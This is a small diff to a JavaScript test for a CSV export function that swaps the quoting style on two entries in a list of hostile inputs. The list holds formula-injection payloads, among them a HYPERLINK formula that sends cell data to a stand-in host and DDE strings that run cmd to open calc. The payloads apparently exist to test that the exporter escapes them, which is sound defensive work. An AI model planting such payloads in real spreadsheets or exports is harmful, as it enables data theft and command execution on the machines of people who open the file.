@@ -7,8 +7,8 @@ describe('toCsv', () => {
     const hostile = [
       '=HYPERLINK("http://evil.example/?"&A1,"Click")',
       '+1+1',
-      '-2+3+cmd|\' /C calc\'!A0',
-      '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
       '\t=1+1',
       '\r=1+1',
       '\uFF1D1+1',
